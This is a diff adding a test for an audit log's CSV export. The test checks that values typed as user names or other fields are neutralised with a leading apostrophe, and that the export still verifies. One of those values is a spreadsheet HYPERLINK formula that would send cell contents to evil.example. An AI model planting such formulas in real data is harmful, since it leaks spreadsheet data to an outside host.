@@ -135,3 +135,21 @@ def test_export_csv_to_stdout_by_time_range(trail: Settings) -> None:
     lines = result.stdout.strip().splitlines()
     assert lines[0].startswith("seq,at,actor_kind")
     assert len(lines) == 1 + 6  # five events and the export's own
+
+
+def test_export_csv_quotes_a_formula_typed_as_a_user_name_and_the_file_still_verifies(trail: Settings,
+                                                                                      tmp_path: Path) -> None:
+    import csv
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    with transaction() as session:
+        append(session, actor=Actor(kind="anonymous", name=formula, interface="console", user_agent="@SUM(1)"),
+               action="operator.sign_in", outcome="refused", reason="+bad password")
+    seal_committed(dbmod.engine())
+    out = tmp_path / "all.csv"
+    result = sirena(trail, "audit", "export", "--since", "2000-01-01T00:00", "--format", "csv", "-o", str(out))
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(out.open(newline="")))
+    row = next(r for r in rows if r["action"] == "operator.sign_in")
+    assert (row["actor_name"], row["origin_user_agent"], row["reason"]) == ("'" + formula, "'@SUM(1)", "'+bad password")
+    assert sirena(trail, "audit", "verify", "--export", str(out)).returncode == 0
